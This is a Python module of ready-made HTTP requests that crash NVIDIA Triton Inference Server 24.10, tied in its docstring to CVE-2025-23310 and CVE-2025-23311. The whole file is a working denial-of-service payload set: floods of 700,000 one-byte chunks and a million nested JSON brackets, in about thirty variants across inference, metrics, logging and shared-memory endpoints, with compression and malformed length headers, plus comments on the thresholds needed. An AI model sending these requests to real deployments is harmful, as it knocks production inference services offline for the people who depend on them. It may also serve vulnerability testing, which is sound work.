"""HTTP requests that crash Triton 24.10 with signal 11: very many chunks, and very deeply nested JSON.

CVE-2025-23310 and CVE-2025-23311 of NVIDIA's bulletin of August 2025.
"""

import gzip
import zlib

INFER = "/v2/models/emotion/infer"
CHUNKS = 700_000  # chunks of one byte; about 600,000 are enough; Triton needs 1 kB for each
DEPTH = 1_000_000  # nested brackets; about 100,000 are enough
NESTED = b"[" * DEPTH


def post(path: str, body: bytes, *headers: str, method: str = "POST") -> bytes:
    """Return a request with a body of known length."""
    return _request(method, path, *headers, f"Content-Length: {len(body)}") + body


def chunked(path: str, body: bytes, size: int, *headers: str, extension: bytes = b"", method: str = "POST") -> bytes:
    """Return a request whose body is sent in chunks of `size` bytes."""
    chunks = (body[at : at + size] for at in range(0, len(body), size))
    framed = b"".join(b"%x%b\r\n%b\r\n" % (len(chunk), extension, chunk) for chunk in chunks)
    return _request(method, path, *headers, "Transfer-Encoding: chunked") + framed + b"0\r\n\r\n"


def _request(method: str, path: str, *headers: str) -> bytes:
    # with `close`, the server ends the connection after its answer, and the sender does not wait
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Connection: close", *headers, "", ""]
    return "\r\n".join(lines).encode()


_LENGTH = "Inference-Header-Content-Length"
CRASHES: dict[str, bytes] = {
    "700,000 chunks": chunked(INFER, b"x" * CHUNKS, 1),
    "nested arrays": post(INFER, NESTED),
    # variants of these two
    "700,000 chunks to a version": chunked("/v2/models/emotion/versions/1/infer", b"x" * CHUNKS, 1),
    "700,000 chunks to a composing model": chunked("/v2/models/vggish/infer", b"x" * CHUNKS, 1),
    "700,000 chunks of a GET": chunked("/v2/health/ready", b"x" * CHUNKS, 1, method="GET"),
    "700,000 chunks for metrics": chunked("/metrics", b"x" * CHUNKS, 1, method="GET"),
    "700,000 chunks to the page": chunked(
        "/api/analyze", b"x" * CHUNKS, 1, "Content-Type: multipart/form-data; boundary=x"
    ),
    "700,000 chunks to the index of models": chunked("/v2/repository/index", b"x" * CHUNKS, 1),
    "700,000 chunks with an extension": chunked(INFER, b"x" * CHUNKS, 1, extension=b";a"),
    "700,000 chunks and a length of JSON": chunked(INFER, b"{}" + b"x" * CHUNKS, 1, f"{_LENGTH}: 2"),
    "700,000 chunks of two bytes": chunked(INFER, b"x" * 2 * CHUNKS, 2),
    "700,000 chunks, pipelined": post(INFER, b"{}").replace(b"Connection: close\r\n", b"")
    + chunked(INFER, b"x" * CHUNKS, 1),
    "nested arrays in chunks of 64 kB": chunked(INFER, NESTED, 65536),
    "nested objects": post(INFER, b'{"a":' * DEPTH),
    "nested inputs": post(INFER, b'{"inputs":' + NESTED),
    "nested parameters": post(INFER, b'{"parameters":{"a":' + NESTED),
    "nested arrays to a version": post("/v2/models/emotion/versions/1/infer", NESTED),
    "nested arrays to a composing model": post("/v2/models/fusion/infer", NESTED),
    "nested arrays for generation": post("/v2/models/emotion/generate", NESTED),
    "nested arrays for the log": post("/v2/logging", NESTED),
    "nested arrays for traces": post("/v2/trace/setting", NESTED),
    "nested arrays for shared memory": post("/v2/systemsharedmemory/region/x/register", NESTED),
    "nested arrays as a header of JSON": post(INFER, NESTED, f"{_LENGTH}: {DEPTH}"),
    "nested arrays and a false length of JSON": post(INFER, NESTED, f"{_LENGTH}: 2, {DEPTH}"),
    "nested arrays and a negative length of JSON": post(INFER, NESTED, f"{_LENGTH}: -1"),
    "nested arrays, gzip": post(INFER, gzip.compress(NESTED), "Content-Encoding: gzip"),
    "nested arrays, deflate": post(INFER, zlib.compress(NESTED), "Content-Encoding: deflate"),
    "nested arrays to the page": post("/api/analyze", NESTED, "Content-Type: application/json"),
    "nested arrays, PUT": post(INFER, NESTED, method="PUT"),
    "32,000 nested arrays": post(INFER, b"[" * 32_000),  # the largest depth that the proxy accepts
}
